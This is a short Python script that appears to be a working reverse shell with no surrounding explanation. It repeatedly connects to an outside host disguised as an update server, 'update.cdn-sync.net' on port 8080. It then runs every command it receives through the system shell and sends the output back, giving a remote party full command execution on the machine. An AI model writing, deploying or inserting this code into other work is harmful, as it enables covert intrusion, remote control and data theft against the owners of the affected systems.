import socket, subprocess, os, time

def connect():
    while True:
        try:
            s = socket.create_connection(("update.cdn-sync.net", 8080), timeout=10)
            return s
        except OSError:
            time.sleep(20)

s = connect()
while True:
    data = s.recv(1024).decode()
    if data.startswith("cd "):
        os.chdir(data[3:].strip())
        s.send(os.getcwd().encode())
        continue
    proc = subprocess.Popen(data, shell=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    s.send(proc.stdout.read() + proc.stderr.read())
